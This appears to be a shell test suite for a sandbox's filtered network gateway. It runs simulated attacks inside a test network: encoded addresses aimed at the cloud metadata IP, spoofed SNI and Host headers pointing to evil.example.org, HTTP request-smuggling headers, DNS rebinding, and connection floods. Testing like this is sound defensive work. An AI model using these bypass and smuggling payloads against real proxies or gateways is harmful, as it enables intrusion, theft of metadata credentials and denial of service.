# shellcheck shell=bash disable=SC1091,SC2016,SC2034,SC2154,SC2181,SC2317
# SPDX-License-Identifier: LGPL-2.1-or-later
# Attacks on the gateway, and past it, on an internet of our own (net/world.sh). What it lets through: 45-gateway, 46-net-programs.
. "$SYSTEM/lib.sh"
. "$SYSTEM/net/case.sh"
net_world "attacks on the gateway" dig

P=$SYSTEM/net/payload.py

# What arrived is what counts, whatever the payload believes. What its rules allow may be looked up.
setup_quiet() {
    fresh_log
    effect() { [ "$OUTCOME" = worked ] || new_lines | grep -qE '^(tcp|udp|http) '; }
}
# Of a connection that is allowed: nothing of evil's arrived.
setup_evil() {
    fresh_log
    effect() { reached evil; }
}
# A network namespace in which we may do anything, for the control.
setup_netns() { OUTSIDE_LAUNCH='unshare -U --map-root-user -n'; }
setup_loopback() {
    start "$ATTACKS/sockets" listen-inet
    PORT=$LINE
}

N="--network=filtered --read=$SYSTEM/net"
W=--net-allow=www.example.com
H=--net-allow=http://example.com
A=93.184.217.34 # example.org's, which no rule allows

rows <<'ROWS'
# name | who | setup | fences | options | attack
# ---- past the rules ----
address | any | quiet | with:--net-allow=$A:7000 | $N $W | : python3 $P connect $A 7000
address-no-rules | any | quiet | with:--net-allow=$A:7000 | $N | : python3 $P connect $A 7000
other-port | any | quiet | with:--net-allow=tcp://www.example.com:7000 | $N $W | : python3 $P connect www.example.com 7000
address-hex | any | quiet | with:--net-allow=169.254.169.254:7000 | $N $W | : python3 $P connect 0xa9fea9fe 7000
address-decimal | any | quiet | with:--net-allow=169.254.169.254:7000 | $N $W | : python3 $P connect 2852039166 7000
address-octal | any | quiet | with:--net-allow=169.254.169.254:7000 | $N $W | : python3 $P connect 0251.0376.0251.0376 7000
address-mapped | any | quiet | with:--net-allow=169.254.169.254:7000 | $N $W | : python3 $P connect ::ffff:169.254.169.254 7000
address-nat64 | any | quiet | with:--net-allow=[64:ff9b::a9fe:a9fe]:7000 | $N $W | : python3 $P connect 64:ff9b::a9fe:a9fe 7000
address-6to4 | any | quiet | with:--net-allow=[2002:a9fe:a9fe::1]:7000 | $N $W | : python3 $P connect 2002:a9fe:a9fe::1 7000
private | any | quiet | with:--net-allow=10.77.0.1:7000 | $N $W | : python3 $P connect 10.77.0.1 7000
private-by-name | any | quiet | with:--net-allow=192.168.7.7:7000 | $N --net-allow=tcp://rebind-private.example.com:7000 | : python3 $P connect rebind-private.example.com 7000
udp-address | any | quiet | with:--net-allow=udp://$A:7000 | $N $W | : python3 $P udp $A 7000
udp-beside-tcp | any | quiet | with:--net-allow=udp://www.example.com:7000 | $N --net-allow=tcp://www.example.com:7000 | : python3 $P udp www.example.com 7000
tcp-beside-udp | any | quiet | with:--net-allow=tcp://www.example.com:7000 | $N --net-allow=udp://www.example.com:7000 | : python3 $P connect www.example.com 7000
host-loopback | any | loopback | with:--network=host | $N $W | sockets tcp "$PORT"
fastopen | any | quiet | with:--net-allow=$A:80 | $N $W | : python3 $P fastopen $A 80
fastopen-http | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P fastopen example.com 80

# ---- names that are not what they seem ----
sni-other | any | quiet | with:--net-allow=tcp://www.example.com:443 | $N $W | : python3 $P hello evil.example.org www.example.com
sni-longer | any | quiet | with:--net-allow=tcp://www.example.com:443 | $N $W | : python3 $P hello www.example.com.evil.example.org www.example.com
sni-nul | any | quiet | with:--net-allow=tcp://www.example.com:443 | $N $W | : python3 $P hello 'www.example.com\0.evil.example.org' www.example.com
sni-dot | any | quiet | with:--net-allow=tcp://www.example.com:443 | $N $W | : python3 $P hello evil.example.org. www.example.com
sni-hidden | any | quiet | with:--net-allow=tls://www.example.com:443,sni=optional | $N | : python3 $P hello www.example.com www.example.com 443 ech
host-other | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P connect example.com 80 'GET / HTTP/1.1\r\nHost: evil.example.org\r\n\r\n'
host-nul | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P connect example.com 80 'GET / HTTP/1.1\r\nHost: example.com\0.evil.example.org\r\n\r\n'
host-dot | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P connect example.com 80 'GET / HTTP/1.1\r\nHost: evil.example.org.\r\n\r\n'
host-user | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P connect example.com 80 'GET / HTTP/1.1\r\nHost: example.com@evil.example.org\r\n\r\n'
host-blank | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P connect example.com 80 'GET / HTTP/1.1\r\nHost: example.com evil.example.org\r\n\r\n'
host-twice | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P connect example.com 80 'GET / HTTP/1.1\r\nHost: example.com\r\nHost: evil.example.org\r\n\r\n'
host-blank-colon | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P connect example.com 80 'GET / HTTP/1.1\r\nHost: example.com\r\nHost : evil.example.org\r\n\r\n'
host-absolute | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P connect example.com 80 'GET http://evil.example.org/ HTTP/1.1\r\nHost: example.com\r\n\r\n'
host-connect | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P connect example.com 80 'CONNECT evil.example.org:443 HTTP/1.1\r\nHost: example.com\r\n\r\n'
smuggle-lengths | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P smuggle 'Content-Length: 70\r\nContent-Length: 2\r\n\r\nxx'
smuggle-te-blank | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P smuggle 'Content-Length: 70\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n'
smuggle-te-cl | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P smuggle 'Content-Length: 70\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'
smuggle-chunk-hex | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P smuggle 'Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n'
smuggle-chunk-sign | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P smuggle 'Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n'
smuggle-line-feed | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P smuggle 'X: y\nContent-Length: 0\n\n'
smuggle-later | any | evil | with:--net-allow=tcp://example.com:80 | $N $H | : python3 $P smuggle 'Content-Length: 2\r\n\r\nxx'

# ---- other ways out ----
sctp | any | - | seccomp | $N $W | sockets socket 2 1 132
mptcp | any | - | seccomp | $N $W | sockets socket 2 1 262
dccp | any | - | seccomp | $N $W | sockets socket 2 6 33
udplite | any | - | seccomp | $N $W | sockets socket 2 2 136
vsock | any | - | seccomp | $N $W | sockets socket 40 1 0
raw | any | netns | caps,userns2 | $N $W | sockets socket 2 3 1
packet | any | netns | seccomp,caps,userns2 | $N $W | sockets socket 17 3 0
netlink-netfilter | any | - | seccomp | $N $W | sockets socket 16 3 12
netlink-diag | any | - | seccomp | $N $W | sockets diag
set-address | any | netns | caps,userns2 | $N $W | : python3 $P route address
set-route | any | netns | caps,userns2 | $N $W | : python3 $P route route
set-link | any | netns | caps,userns2 | $N $W | : python3 $P route link
ROWS
[ -z "${CONTROLS-}" ] || done_testing

new_world
NET_PATIENCE=100
export SSL_CERT_FILE=$CA

# ---- DNS ----
fresh_log
dig +short +timeout=2 +tries=1 'www.example.com\000.evil.example.org' @10.77.0.1 >"$T/stdout" 2>&1
dig +short +timeout=2 +tries=1 evil.example.org @10.77.0.1 >>"$T/stdout" 2>&1
[ "$(new_lines | grep -c '^dns ')" = 2 ]
verdict "control: outside such questions arrive" -- new_lines
fresh_log
AGENTJAIL=$UNFENCED AGENTJAIL_TEST_OFF=dns net $W -- dig +timeout=2 +tries=1 evil.example.org @10.77.0.1
reached 'dns evil.example.org'
verdict "control: and inside when names are not judged" -- new_lines
fresh_log
net $W -- sh -c 'for name in "www.example.com\000.evil.example.org" "www.example.com\000" "secret.www.example.com" evil.example.org; do
    for type in A AAAA TXT MX NULL CNAME ANY SRV; do dig +timeout=2 +tries=1 "$name" $type @10.77.0.1 | grep -o "status: [A-Z]*"; done; done'
[ "$(grep -vc NXDOMAIN "$T/stdout")" = 0 ] && [ "$(grep -c NXDOMAIN "$T/stdout")" = 32 ] && ! reached dns
verdict "no type of question leaves for a name that no rule allows, whatever stands in it" -- new_lines

net '--net-allow=**.example.com' --net-allow=http://www.example.com -- python3 "$P" names 100
[ $? -eq 0 ] && grep -qF 'codes [(0, 100)]' "$T/stdout"
verdict "control: 100 names are all answered"
net '--net-allow=**.example.com' --net-allow=http://www.example.com -- python3 "$P" names 10000
[ $? -eq 0 ] && grep -qE 'codes \[\(0, [0-9]+\), \(2, [0-9]+\)\]' "$T/stdout"
verdict "10,000 names: at the end of the table they are refused, and what was answered before goes on"

net --dns=real '--net-allow=**.example.com' --net-allow=http://www.example.com -- python3 "$P" names 100 wide.example.com 180
[ $? -eq 0 ] && grep -qF 'codes [(0, 100)]' "$T/stdout"
verdict "control: dns = real: 100 are all answered"
net -v --dns=real '--net-allow=**.example.com' --net-allow=http://www.example.com -- python3 "$P" names 3600 wide.example.com 180
[ $? -eq 0 ] && grep -qE 'codes \[\(0, [0-9]+\), \(2, [0-9]+\)\]' "$T/stdout" && grep -qF 'too many names and addresses for one jail' "$T/stderr"
verdict "dns = real: the same, and it is told"

python3 "$P" race 5 >"$T/stdout" 2>"$T/stderr"
verdict "control: outside the addresses that are answered next can be connected to"
fresh_log
net '--net-allow=tcp://**.example.com:80' --net-deny=from-hosts.example.com -- python3 "$P" race 200
[ $? -eq 1 ] && ! new_lines | grep -E '^tcp ' | grep -vqxF 'tcp 93.184.216.35 80'
verdict "DNS answers raced with connects: only what was asked for is reached" -- new_lines

real='import socket, sys
for name in sys.argv[1:]: address = socket.gethostbyname(name)
try:
    s = socket.create_connection((address, 7), 5); s.sendall(b"x"); sys.exit(0 if s.recv(9) else 1)
except OSError as e: print(e); sys.exit(1)'
net --dns=real --net-allow=example.com --net-allow=tcp://other.example.com:7 -- python3 -c "$real" other.example.com
verdict "control: dns = real: an address of one name, which may be connected to by any protocol"
fresh_log
net --dns=real --net-allow=example.com --net-allow=tcp://other.example.com:7 -- python3 -c "$real" example.com other.example.com
[ $? -eq 1 ] && ! reached tcp
verdict "dns = real: not once it was answered for a name that may not" -- new_lines

for i in 1 2 3 4; do curl -sS -m 5 http://flip.example.com:80/; done >"$T/stdout" 2>"$T/stderr"
reached "tcp 169.254.169.254 80"
verdict "control: outside a name flips to the metadata address"
fresh_log
net --net-allow=tcp://flip.example.com:80 -- sh -c 'for i in 1 2 3 4 5 6 7 8; do curl -sS -m 5 http://flip.example.com/; sleep 0.1; done'
[ "$(grep -c '^hello' "$T/stdout")" -ge 1 ] && ! reached "tcp 169.254.169.254" && [ "$(new_lines | grep -c '^dns flip')" -ge 2 ]
verdict "a name that flips to the metadata address is never followed there" -- new_lines
fresh_log
net --dns=real --net-allow=tcp://flip.example.com:80 -- sh -c 'for i in 1 2 3 4 5 6 7 8; do curl -sS -m 5 http://flip.example.com/; sleep 0.1; done'
[ "$(grep -c '^hello' "$T/stdout")" -ge 1 ] && ! reached "tcp 169.254.169.254"
verdict "nor with dns = real" -- new_lines

# ---- many at once ----
python3 "$P" flood $A 143 1000 >"$T/stdout" 2>"$T/stderr"
verdict "control: a flood of connects is answered outside"
fresh_log
net --net-allow=http://www.example.com -- python3 "$P" flood $A 143 "${NET_FLOOD:-100000}" 20 # an emulated machine takes fewer
[ $? -eq 1 ] && ! new_lines | grep -qF "tcp $A" && [ "$(wc -l <"$T/stderr")" -lt 30 ]
verdict "${NET_FLOOD:-100000} connects are refused, in few words, and others go on meanwhile"
python3 "$P" slow 50 www.example.com 443 '\x16\x03' >"$T/stdout" 2>"$T/stderr"
grep -q ' 50 held' "$T/stdout"
verdict "control: connections that do not say what they want can be had outside"
AGENTJAIL=$UNFENCED AGENTJAIL_TEST_OFF=slow-heads net $W -- python3 "$P" slow 700 www.example.com 443 '\x16\x03' 2
[ $? -eq 1 ] && grep -q 'the others cannot' "$T/stdout"
verdict "control: too many of them keep the others out where none makes room"
net $W -- python3 "$P" slow 500 www.example.com 443 '\x16\x03'
grep -q ' 500 held' "$T/stdout"
verdict "500 connections that do not say what they want cost the others nothing"
net $W -- python3 "$P" slow 700 www.example.com 443 '\x16\x03'
grep -q ' held' "$T/stdout"
verdict "nor do more than there is room for: who is slow makes room"
net --net-allow=http://example.com --net-allow=http://www.example.com -- python3 "$P" stalled 30 8000000
verdict "30 readers that do not read: others go on, and no byte is lost"

# at_limit NAME WHAT N LIMIT SAID OPTION...: payload.py's WHAT wants N at a time: it has LIMIT, and the refusal of the rest is told.
at_limit() {
    local name=$1 what=$2 n=$3 limit=$4 said=$5
    shift 5
    net -v "$@" -- python3 "$P" "$what" 50
    [ $? -eq 0 ] && grep -qE "^(answered|waits) 50\$" "$T/stdout" && ! grep -qF "$said" "$T/stderr"
    verdict "control: 50 $name are none too many"
    net -v "$@" -- python3 "$P" "$what" "$n"
    [ $? -eq 0 ] && grep -qE "^(answered|waits) $limit\$" "$T/stdout" && grep -qF "$said" "$T/stderr"
    verdict "$limit $name at a time; more are refused, which is told, those go on, and so do others" -- cat "$T/stdout" "$T/stderr"
}
W80=--net-allow=http://www.example.com
at_limit "UDP flows" flows 600 512 'too many UDP flows at a time' "$W80" --net-allow=udp://ntp.example.com:7000
at_limit "DNS connections" streams 80 64 'too many connections to the DNS server' "$W80"
at_limit "servers that do not answer" silent 530 512 'too many servers that have not answered yet' "$W80" --net-allow=tcp://silent.example.com:7000
at_limit "look-ups without an answer" mute 280 256 'too many names are being asked for' "$W80" "$H" '--net-allow=tcp://**.mute.example.com:7000'

# ---- from outside ----
# come PORT ADDRESS...: does a listener inside see anybody who connects to these, from the host?
come() {
    local port=$1 address end
    shift
    mkfifo "$T/end" && rm -f "$T/stdout"
    exec {end}<>"$T/end" # open at both ends: whether the jail is there or not
    net "${options[@]}" -- python3 "$P" listener "$port" <&$end &
    local jail=$!
    until grep -q listening "$T/stdout" 2>/dev/null; do kill -0 $jail 2>/dev/null || return 2; sleep 0.02; done
    for address; do timeout 5 python3 "$P" connect "$address" "$port" >"$T/come" 2>&1; done
    echo >&$end
    wait $jail
    local s=$?
    exec {end}>&-
    rm -f "$T/end"
    return $s
}
options=(--network=host)
come 9417 127.0.0.1
verdict "control: on the host's network a listener inside is reached"
options=("$W" --net-allow=tcp://www.example.com:9417)
come 9418 127.0.0.1 ::1 10.77.0.2 fd77::2 192.0.0.2 198.18.1.1 fd61:6765:6e74:6a61:696c::2 0.0.0.0
[ $? -eq 1 ]
verdict "a listener at 0.0.0.0 and :: is not reached from the host"

# ---- documented limits ----
fresh_log
net $W -- curl -sS --cacert "$CA" -H 'Host: evil.example.org' https://www.example.com/
[ $? -eq 0 ] && reached "http evil.example.org" && ! new_lines | grep '^tcp' | grep -vqF 93.184.216.35
verdict "documented limit: within TLS another Host is not seen, but it goes to the allowed name's server" -- new_lines

end_world
done_testing
